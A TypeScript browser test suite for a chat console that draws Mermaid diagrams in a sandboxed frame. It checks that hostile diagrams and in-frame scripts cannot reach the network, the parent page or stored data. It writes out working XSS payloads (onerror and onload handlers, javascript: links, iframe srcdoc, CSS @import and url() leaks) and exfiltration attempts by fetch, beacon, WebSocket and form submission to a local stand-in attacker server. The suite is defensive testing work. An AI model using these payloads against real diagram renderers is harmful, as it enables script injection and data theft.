// A hostile diagram reaches neither the network nor the console; and if the library let one through, the frame it runs in would hold.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type ModelServer, startModelServer } from '../../src/testing/model-server.ts';
import { axeFindings, logIn, openView, overflow, say, type View } from './browser.ts';
import { useWorld } from './world.ts';

const world = useWorld();
let evil: Server;
let model: ModelServer;
/** What arrived at the attacker. */
const arrived: string[] = [];
let at = '';
beforeAll(async () => {
  evil = createServer((request, response) => {
    arrived.push(request.url ?? '');
    response.end('');
  });
  await new Promise<void>((resolve) => {
    evil.listen(0, '127.0.0.1', resolve);
  });
  at = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
  model = await startModelServer('openai-compatible', [{}]);
  await world.server.copaw('models', 'add', 'scripted', '--kind', 'openai-compatible', '--base-url', model.baseUrl, '--model', 'm', '--no-key', '--default');
});
afterAll(async () => {
  evil?.close();
  await model?.close();
});

const loose = (): string =>
  JSON.stringify({
    securityLevel: 'loose',
    htmlLabels: true,
    flowchart: { htmlLabels: true },
    secure: [],
    maxTextSize: 9_999_999,
    dompurifyConfig: { ADD_TAGS: ['script', 'iframe'], ADD_ATTR: ['onload', 'onerror', 'onclick'] },
    themeCSS: `@import url(${at}/theme-import); * { background: url(${at}/theme) !important; }`,
    fontFamily: `x; } @import url(${at}/font-import); * { background: url(${at}/font)`,
    themeVariables: { primaryColor: `red; } * { background: url(${at}/variable) } x {` },
  });

const hostile = (): readonly string[] => [
  `%%{init: ${loose()}}%%\nflowchart LR\n  A["<img src='${at}/image' onerror='parent.pwned=1'>"] --> B["<script>parent.pwned=1</script>here"]`,
  `---\nconfig: ${loose()}\n---\nflowchart LR\n  A["<svg onload='top.pwned=1'><foreignObject><iframe src='${at}/iframe' srcdoc='<script>top.pwned=1</script>'></iframe></foreignObject></svg>here"]`,
  'flowchart LR\n  A[here] --> B\n  click A "javascript:parent.pwned=1" _self\n  click B call parent.postMessage("pwned")',
  `flowchart LR\n  A[here] --> B\n  click A href "${at}/link" _top\n  click B href "${at}/blank" _blank`,
  `flowchart LR\n  A[here] --> B\n  style A fill:url(${at}/style),stroke:red\n  classDef c fill:#fff,background:url(${at}/class)\n  class B c`,
  `flowchart LR\n  A@{ img: "${at}/picture.png", label: "here" }\n  B@{ icon: "fa:x", label: "<link rel=stylesheet href=${at}/sheet>" }`,
  `sequenceDiagram\n  participant A as here\n  link A: out @ ${at}/menu\n  links A: {"x": "javascript:parent.pwned=1"}\n  A->>A: <a href="${at}/message">go</a>`,
  `classDiagram\n  class here\n  link here "${at}/class-link"\n  callback here "parent.pwned" "x"`,
  `gantt\n  title here\n  section S\n  T :t, 2020-01-01, 1d\n  click t href "${at}/gantt"`,
];

/** Shows a diagram in a conversation of its own and waits until it is drawn or refused; the frame, where it is drawn. */
async function draw(page: Page, source: string): Promise<Frame | undefined> {
  await page.getByRole('button', { name: 'New conversation' }).click();
  return drawHere(page, source);
}

async function drawHere(page: Page, source: string): Promise<Frame | undefined> {
  model.play([{ text: `\`\`\`mermaid\n${source}\n\`\`\`` }]);
  await say(page, 'draw it');
  const said = page.locator('.answer');
  await said.getByRole('button', { name: 'Draw' }).click();
  const frame = said.locator('iframe');
  await said.locator('iframe[style*="height"]:not([style*="height: 24px"]), [role=alert]').first().waitFor();
  return (await frame.count()) === 0 ? undefined : ((await (await frame.elementHandle())?.contentFrame()) ?? undefined);
}

async function open(expected: readonly RegExp[]): Promise<View> {
  const view = await openView(world.browser, { expected });
  await logIn(view.page, await world.server.freshLink());
  return view;
}

test('scripts, callbacks, links, pictures, styles and settings of a diagram do nothing', async () => {
  // What a diagram asks for and its page refuses is reported.
  const view = await open([/policy violation|Content Security Policy|content security policy/u]);
  const { page } = view;
  let drawn = 0;
  for (const source of hostile()) {
    const frame = await draw(page, source);
    if (!frame) continue;
    drawn++;
    expect(await frame.locator('script:not([nonce]), iframe, foreignObject, image, img, link, [onclick], [onload], [onerror]').count()).toBe(0);
    expect(await frame.locator('a').evaluateAll((links) => links.flatMap((link) => link.getAttributeNames()))).toEqual([]);
    for (const part of await frame.locator('svg .node, svg .actor, svg .task, svg a').all())
      await part.click({ force: true, timeout: 2_000 }).catch(() => undefined);
    expect(await page.evaluate('window.pwned')).toBeUndefined();
    expect(page.url().startsWith(world.server.url)).toBe(true);
  }
  expect(drawn).toBeGreaterThan(4);
  expect(view.context.pages()).toHaveLength(1);
  expect(arrived).toEqual([]);
  view.check();
  await view.context.close();
});

const wide = `flowchart LR\n${Array.from({ length: 16 }, (_, at) => `  n${at}[Step number ${at}] --> n${at + 1}`).join('\n')}`;
/** How large it is drawn beside its own size, and what of its page is out of sight. */
const measured = `(() => {
  const { scrollWidth, clientWidth, scrollHeight, clientHeight } = document.documentElement;
  const svg = document.querySelector('svg');
  return { scale: svg.getBoundingClientRect().width / svg.viewBox.baseVal.width, right: scrollWidth - clientWidth, below: scrollHeight - clientHeight };
})()`;
interface Measured {
  readonly scale: number;
  readonly right: number;
  readonly below: number;
}

test.each([{}, { width: 390, height: 844, touch: true, theme: 'dark' }] as const)(
  'a wide diagram stays readable and scrolls sideways in its own box, a small one does not: %o',
  async (options) => {
    const view = await openView(world.browser, options);
    const { page } = view;
    await logIn(page, await world.server.freshLink());
    const sized = async (source: string): Promise<[Frame, Measured]> => {
      await page.goto(`${world.server.url}/#/s/s_wide_${source.length}_${options.touch ?? false}`);
      const frame = await drawHere(page, source);
      if (!frame) throw new Error('A plain diagram was not drawn.');
      await expect.poll(async () => (await frame.evaluate<Measured>(measured)).below).toBeLessThan(1);
      return [frame, await frame.evaluate<Measured>(measured)];
    };
    const [frame, large] = await sized(wide);
    expect(large.scale).toBeCloseTo(0.75, 1);
    expect(large.right).toBeGreaterThan(1_000);
    await page.locator('.answer iframe').focus();
    await frame.press('body', 'ArrowRight');
    await expect.poll(() => frame.evaluate<number>('scrollX')).toBeGreaterThan(0);
    const [, small] = await sized('flowchart LR\n  A --> B');
    expect([small.right, small.below, small.scale > 0.75]).toEqual([0, 0, true]);
    expect([await axeFindings(page), await overflow(page)]).toEqual([[], 0]);
    view.check();
    await view.context.close();
  },
);

test('a diagram as large as one may be leaves the page usable; a larger one is not drawn', async () => {
  const view = await open([]);
  const { page } = view;
  const edges = (count: number): string =>
    `flowchart LR\n${Array.from({ length: count }, (_, at) => `  n${at}[Node ${at}] --> n${(at * 7) % count}`).join('\n')}`;
  const large = edges(499);
  expect(large.length).toBeLessThan(20_000);
  model.play([{ text: `\`\`\`mermaid\n${large}\n\`\`\`` }]);
  await page.getByRole('button', { name: 'New conversation' }).click();
  await say(page, 'draw a lot');
  const answer = page.locator('.answer');
  await answer.getByRole('button', { name: 'Draw' }).click();
  await answer.locator('iframe, [role=alert]').first().waitFor();
  await page.locator('#composer').fill('still here');
  expect(await page.locator('#composer').inputValue()).toBe('still here');
  // It is drawn, or it took too long: either way that is said by the console, which was never held up.
  await answer.getByText('Drawing…').waitFor({ state: 'detached', timeout: 40_000 });
  model.play([{ text: `\`\`\`mermaid\n${edges(1_000)}\n\`\`\`` }]);
  await page.getByRole('button', { name: 'New conversation' }).click();
  await say(page, 'draw far too much');
  await page.getByText('scripted/m').last().waitFor();
  expect(await answer.getByRole('button', { name: 'Draw' }).count()).toBe(0);
  view.check();
  await view.context.close();
});

test('a script that ran in the frame all the same could reach nothing and nobody', async () => {
  const view = await open([/./u]);
  const { page } = view;
  const frame = await draw(page, 'flowchart LR\n  A --> B');
  if (!frame) throw new Error('A plain diagram was not drawn.');
  const tried = await frame.evaluate<Record<string, string>>(`(async () => {
    const outcome = async (what) => { try { return String(await what()); } catch (error) { return 'refused: ' + error.name; } };
    const loads = (name, attribute, url) => new Promise((resolve) => {
      const element = document.createElement(name);
      element.onload = () => resolve('loaded');
      element.onerror = () => resolve('refused');
      element[attribute] = url;
      document.body.append(element);
    });
    return {
      origin: await outcome(() => String(self.origin)),
      api: await outcome(async () => (await fetch('${world.server.url}/api/status', { credentials: 'include' })).status),
      away: await outcome(async () => (await fetch('${at}/fetch', { mode: 'no-cors' })).type),
      beacon: await outcome(() => navigator.sendBeacon('${at}/beacon', 'x')),
      image: await outcome(() => loads('img', 'src', '${at}/img.png')),
      script: await outcome(() => loads('script', 'src', '${world.server.url}/api/status')),
      inline: await outcome(() => { const script = document.createElement('script'); script.textContent = 'self.ran = 1'; document.body.append(script); return self.ran; }),
      handler: await outcome(() => { document.body.insertAdjacentHTML('beforeend', '<p id=p onclick="self.ran = 1">x</p>'); document.getElementById('p').click(); return self.ran; }),
      eval: await outcome(() => (0, eval)('1')),
      socket: await outcome(() => new Promise((resolve) => { const socket = new WebSocket('${at.replace('http', 'ws')}/socket'); socket.onopen = () => resolve('open'); socket.onerror = () => resolve('refused'); })),
      worker: await outcome(() => { new Worker('${world.server.url}/x.js'); return 'made'; }),
      parent: await outcome(() => parent.document.title),
      storage: await outcome(() => localStorage.length),
      cookie: await outcome(() => document.cookie),
      database: await outcome(() => new Promise((resolve, reject) => { const asked = indexedDB.open('x'); asked.onsuccess = () => resolve('open'); asked.onerror = () => reject(asked.error); })),
      window: await outcome(() => open('${at}/window')),
      top: await outcome(() => { top.location.href = '${at}/top'; return 'went'; }),
    };
  })()`);
  const refused = expect.stringMatching(/^refused|^undefined$|^null$/u);
  expect(tried).toEqual({
    ...{ api: refused, away: refused, image: refused, script: refused, inline: refused, handler: refused, eval: refused, socket: refused, worker: refused },
    ...{ parent: refused, storage: refused, cookie: refused, database: refused, window: refused, top: refused },
    origin: 'null',
    // It says that it took it; what matters is below.
    beacon: expect.any(String),
  });
  // Nor can it lead itself away: what it would be shown then is not let in.
  await frame.evaluate(`{ location.href = '${at}/self?secret'; }`).catch(() => undefined);
  await frame
    .evaluate(`{ document.body.insertAdjacentHTML('beforeend', '<form id=f action="${at}/form"></form>'); document.getElementById('f').submit(); }`)
    .catch(() => undefined);
  await page.evaluate('new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))');
  expect(arrived).toEqual([]);
  expect(page.url().startsWith(world.server.url)).toBe(true);
  await view.context.close();
});

test('words of a frame that is not the diagram, and words that say nothing, change nothing', async () => {
  const view = await open([]);
  const { page } = view;
  const frame = await draw(page, 'flowchart LR\n  A --> B');
  const height = async (): Promise<number> => (await page.locator('.answer iframe').last().boundingBox())?.height ?? 0;
  const before = await height();
  await page.evaluate(`postMessage({ state: 'drawn', height: 900 }, '*'); postMessage({ state: 'failed', why: 'x' }, '*');`);
  await frame?.evaluate(
    `for (const words of [null, 1, 'x', {}, { state: 'drawn' }, { state: 'drawn', height: 'tall' }, { state: 'gone' }]) parent.postMessage(words, '*');`,
  );
  await page.evaluate('new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))');
  expect(await height()).toBe(before);
  await frame?.evaluate(`parent.postMessage({ state: 'drawn', height: 1e9 }, '*')`);
  await expect.poll(height).toBe(1_200);
  expect(await page.locator('.answer').getByRole('alert').count()).toBe(0);
  view.check();
  await view.context.close();
});
